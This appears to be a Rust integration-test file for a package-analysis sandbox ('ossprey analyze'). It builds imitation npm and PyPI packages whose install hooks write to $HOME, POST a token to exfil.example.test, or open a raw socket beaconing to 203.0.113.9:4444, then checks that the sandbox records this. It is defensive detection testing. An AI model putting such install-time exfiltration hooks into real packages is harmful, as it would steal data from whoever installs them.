//! `ossprey analyze` end to end: imitation packages written here (harmless look-alikes
//! of exfiltrating packages) run in the sandbox, and the report's `dynamic` section
//! shows what they did.
//!
//! Needs root, user namespaces and the provisioned runtime (`.ci/run` builds it; by
//! hand: `cargo run -p ossprey-runtime --example provision_runtime`). Each test prints
//! why it skips otherwise.
//!
//! Safety: the packages only try to reach `exfil.example.test` (resolved by the
//! sandbox's sinkhole) and the documentation address 203.0.113.9. The sandbox's hook
//! (the sinkhole's `configure`) verifies that the namespace has only `lo` before any
//! package code runs and the sandbox refuses to run otherwise; each test also asserts
//! the interfaces the phase reports.

mod common;

use std::path::{Path, PathBuf};

use common::{analyze, assert_sealed, b64, report, runtime_dir_or_skip};
use ossprey_testkit::archives::tar_gz;
use serde_json::json;

/// An npm tarball whose postinstall, run by npm, writes into $HOME, resolves
/// `exfil.example.test` and POSTs `token=abc` to it.
/// `ossprey analyze ARCHIVE --phases install,import` with its cache under `dir`:
/// the run succeeded, the install phase ran sealed (only `lo`) and completed.
fn install_and_import(runtime: &Path, dir: &Path, archive: &Path) -> serde_json::Value {
    let out = analyze(
        runtime,
        &dir.join("cache"),
        &[
            archive.to_str().unwrap(),
            "--format",
            "json",
            "--phases",
            "install,import",
            "--phase-timeout",
            "60",
        ],
    );
    let r = report(&out);
    assert_eq!(out.status.code(), Some(0), "{r:#}");
    let install = &r["dynamic"]["install"];
    assert_sealed(install);
    eprintln!(
        "install: {} ms, import: {} ms",
        install["duration_ms"], r["dynamic"]["import"]["duration_ms"]
    );
    assert_eq!(install["status"], "completed", "{install:#}");
    r
}

fn exfil_npm(dir: &Path) -> PathBuf {
    let script = "const fs=require('fs'),os=require('os'),http=require('http');\
        fs.writeFileSync(os.homedir()+'/.exfil-marker','seen');\
        const req=http.request({host:'exfil.example.test',port:80,path:'/collect',method:'POST',\
        headers:{'content-type':'application/x-www-form-urlencoded'}},\
        res=>{res.resume();res.on('end',()=>console.log('sent'));});\
        req.on('error',e=>{console.error('post failed',e.message);process.exitCode=1;});\
        req.end('token=abc');";
    let manifest = json!({
        "name": "imitation-exfil",
        "version": "1.0.0",
        "main": "index.js",
        "scripts": {"postinstall": format!("node -e \"{script}\"")}
    });
    let bytes = tar_gz(&[
        (
            "package/package.json",
            serde_json::to_vec_pretty(&manifest).unwrap().as_slice(),
        ),
        ("package/index.js", b"module.exports = () => 1;\n"),
    ]);
    let path = dir.join("imitation-exfil-1.0.0.tgz");
    std::fs::write(&path, bytes).unwrap();
    path
}

#[test]
fn npm_postinstall_dns_http_post_and_home_write_are_recorded() {
    let Some(runtime) =
        runtime_dir_or_skip("npm_postinstall_dns_http_post_and_home_write_are_recorded")
    else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let tgz = exfil_npm(dir.path());
    let r = install_and_import(&runtime, dir.path(), &tgz);
    let install = &r["dynamic"]["install"];
    assert_eq!(r["dynamic"]["import"]["status"], "completed");

    let dns = install["network"]["dns"].as_array().unwrap();
    assert!(
        dns.iter()
            .any(|q| q["hostname"] == "exfil.example.test" && q["type"] == "A"),
        "no DNS query: {dns:#?}"
    );
    let conns = install["network"]["connections"].as_array().unwrap();
    let conn = conns
        .iter()
        .find(|c| c["hostname"] == "exfil.example.test")
        .unwrap_or_else(|| panic!("no connection linked to the name: {conns:#?}"));
    assert_eq!(conn["port"], 80);
    assert_eq!(conn["kind"], "http");
    let http = &conn["http"][0];
    assert_eq!(http["method"], "POST");
    assert_eq!(http["path"], "/collect");
    assert_eq!(b64(&http["body_base64"]), b"token=abc");
    assert_eq!(http["body_text"], "token=abc");

    let files = install["files"].as_array().unwrap();
    assert!(
        files.iter().any(|f| f["path"]
            .as_str()
            .is_some_and(|p| p.starts_with("/home/") && p.ends_with("/.exfil-marker"))
            && f["write"] == true
            && f["succeeded"] == true),
        "no write of the marker in $HOME"
    );
    let procs = install["processes"].as_array().unwrap();
    assert!(
        procs.iter().any(|p| p["execs"].as_array().is_some_and(|e| e
            .iter()
            .any(|e| e["path"].as_str().is_some_and(|p| p.ends_with("/node"))
                && e["argv"].to_string().contains("exfil.example.test")))),
        "no node process running the postinstall: {procs:#?}"
    );
    // The socket the tracer saw is linked to the name too.
    let sockets = install["sockets"].as_array().unwrap();
    assert!(
        sockets.iter().any(|s| s["op"] == "connect"
            && s["port"] == 80
            && s["hostnames"] == json!(["exfil.example.test"])),
        "{sockets:#?}"
    );
}

#[test]
fn pypi_setup_py_raw_connection_has_its_original_destination_and_bytes() {
    let Some(runtime) =
        runtime_dir_or_skip("pypi_setup_py_raw_connection_has_its_original_destination_and_bytes")
    else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let setup = b"import socket\n\
from setuptools import setup\n\
s = socket.create_connection(('203.0.113.9', 4444), timeout=5)\n\
s.sendall(b'IMITATION-BEACON host=dev')\n\
s.close()\n\
setup(name='imitation-beacon', version='0.1.0', py_modules=['imitation_beacon'])\n";
    let pkg_info = b"Metadata-Version: 2.1\nName: imitation-beacon\nVersion: 0.1.0\n";
    let bytes = tar_gz(&[
        ("imitation_beacon-0.1.0/setup.py", setup.as_slice()),
        ("imitation_beacon-0.1.0/PKG-INFO", pkg_info.as_slice()),
        ("imitation_beacon-0.1.0/imitation_beacon.py", b"X = 1\n"),
    ]);
    let sdist = dir.path().join("imitation_beacon-0.1.0.tar.gz");
    std::fs::write(&sdist, bytes).unwrap();
    let r = install_and_import(&runtime, dir.path(), &sdist);
    let install = &r["dynamic"]["install"];
    let conns = install["network"]["connections"].as_array().unwrap();
    let conn = conns
        .iter()
        .find(|c| c["address"] == "203.0.113.9" && c["port"] == 4444)
        .unwrap_or_else(|| panic!("no connection to 203.0.113.9:4444: {install:#}"));
    assert_eq!(
        b64(&conn["bytes_prefix_base64"]),
        b"IMITATION-BEACON host=dev"
    );
    assert_eq!(conn["kind"], "raw");
    assert_eq!(r["dynamic"]["import"]["status"], "completed");
}

#[test]
fn phase_past_its_deadline_reports_timeout() {
    let Some(runtime) = runtime_dir_or_skip("phase_past_its_deadline_reports_timeout") else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let manifest = json!({
        "name": "imitation-sleeper",
        "version": "1.0.0",
        "scripts": {"postinstall": "sleep 30"}
    });
    let bytes = tar_gz(&[(
        "package/package.json",
        serde_json::to_vec(&manifest).unwrap().as_slice(),
    )]);
    let tgz = dir.path().join("imitation-sleeper-1.0.0.tgz");
    std::fs::write(&tgz, bytes).unwrap();
    let started = std::time::Instant::now();
    let out = analyze(
        &runtime,
        &dir.path().join("cache"),
        &[
            tgz.to_str().unwrap(),
            "--format",
            "json",
            "--phases",
            "install",
            "--phase-timeout",
            "2",
        ],
    );
    let r = report(&out);
    let install = &r["dynamic"]["install"];
    assert_sealed(install);
    assert_eq!(install["status"], "timeout", "{install:#}");
    let ms = install["duration_ms"].as_u64().unwrap();
    assert!((2000..7000).contains(&ms), "duration {ms} ms");
    eprintln!("timeout phase: {ms} ms; whole run {:?}", started.elapsed());
}

#[test]
fn crate_targets_get_static_analysis_and_a_note() {
    let Some(runtime) = runtime_dir_or_skip("crate_targets_get_static_analysis_and_a_note") else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let bytes = tar_gz(&[
        (
            "demo-0.1.0/Cargo.toml",
            b"[package]\nname = \"demo\"\nversion = \"0.1.0\"\n".as_slice(),
        ),
        ("demo-0.1.0/src/lib.rs", b"pub fn f() {}\n"),
    ]);
    let krate = dir.path().join("demo-0.1.0.crate");
    std::fs::write(&krate, bytes).unwrap();
    let out = analyze(
        &runtime,
        &dir.path().join("cache"),
        &[krate.to_str().unwrap(), "--format", "json"],
    );
    let r = report(&out);
    assert_eq!(out.status.code(), Some(0), "{r:#}");
    assert!(r["verdict"].is_string());
    assert!(r["dynamic"]["install"].is_null());
    let notes = r["dynamic"]["notes"].to_string();
    assert!(notes.contains("static analysis only"), "{notes}");
}
